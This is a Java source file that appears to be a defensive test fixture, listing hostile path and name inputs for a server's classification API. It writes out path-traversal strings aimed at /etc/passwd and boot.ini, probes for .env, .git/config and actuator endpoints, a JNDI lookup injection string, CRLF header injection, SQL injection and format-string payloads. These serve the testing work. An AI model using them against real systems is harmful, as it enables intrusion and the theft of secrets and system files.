package org.softcpt.server.hostile;

import java.util.ArrayList;
import java.util.List;

/** Tricks with paths: in URLs, in names of bundles and tasks. */
final class NameInputs {

  private static final byte[] PNG = BaseImages.file("png", 8, 8, false);

  private static final String[] PATHS = {
    "/..",
    "/../etc/passwd",
    "/../../../../etc/passwd",
    "/v1/../../etc/passwd",
    "/%2e%2e/etc/passwd",
    "/%2e%2e%2fetc%2fpasswd",
    "/..%2f..%2fetc%2fpasswd",
    "/..%5c..%5cboot.ini",
    "/..;/v1/bundles",
    "/v1/..;/..;/etc",
    "/v1/%00",
    "/v1/bundles%00.json",
    "/%c0%ae%c0%ae/etc/passwd",
    "/%zz",
    "/%",
    "/%u002e%u002e/",
    "/v1//bundles//",
    "//etc/passwd",
    "/./././etc",
    "/v1/bundles/.",
    "/\\..\\..\\etc",
    "/v1/bundles;jsessionid=1;a=b",
    "/file:///etc/passwd",
    "/http://a.example/",
    "/WEB-INF/web.xml",
    "/.git/config",
    "/.env",
    "/server-status",
    "/actuator/env",
    "/cgi-bin/id",
    "/v1/" + "a".repeat(4000),
    "/" + "a/".repeat(2000),
    "/v1/{name}",
    "/v1/classify/"
  };

  private static final String[] NAMES = {
    "..",
    ".",
    "%2e%2e%2f",
    "..%2ftiny",
    "tiny%2f..%2ftiny",
    "tiny%00",
    "%00",
    "tiny%0d%0aX:1",
    "/etc/passwd",
    "C:%5ctiny",
    "~",
    "$%7Bjndi:ldap://a.example%7D",
    "%25s%25n",
    "'%20or%201=1",
    "%F0%9F%92%A9",
    "%FF%FE",
    "tiny%20",
    "TINY",
    "*",
    "tiny%26bundle=x",
    "a".repeat(3000)
  };

  private NameInputs() {}

  static List<HostileInput> all() {
    List<HostileInput> all = new ArrayList<>();
    for (String path : PATHS) {
      HostileInput input = HostileInput.request("path " + shown(path), "GET", path);
      all.add(path.contains("jsessionid") ? input.orHarmless() : input); // it means nothing
    }
    for (String name : NAMES) {
      all.add(bundle(name));
      all.add(HostileInput.request("task " + shown(name), "DELETE", "/v1/tasks/" + name));
      all.add(HostileInput.request("model " + shown(name), "GET", "/v2/models/" + name));
    }
    for (String query :
        new String[] {"?top=1&top=2", "?tasks=" + ",".repeat(3000) + "x", "?top=%zz"}) {
      String name = "query " + shown(query);
      all.add(HostileInput.post(name, "/v1/classify" + query, "image/png", PNG).orHarmless());
    }
    return all;
  }

  private static HostileInput bundle(String name) {
    String path = "/v1/classify?bundle=" + name;
    return HostileInput.post("bundle " + shown(name), path, "image/png", PNG);
  }

  private static String shown(String text) {
    return text.length() > 60 ? text.substring(0, 60) + "..." : text;
  }
}
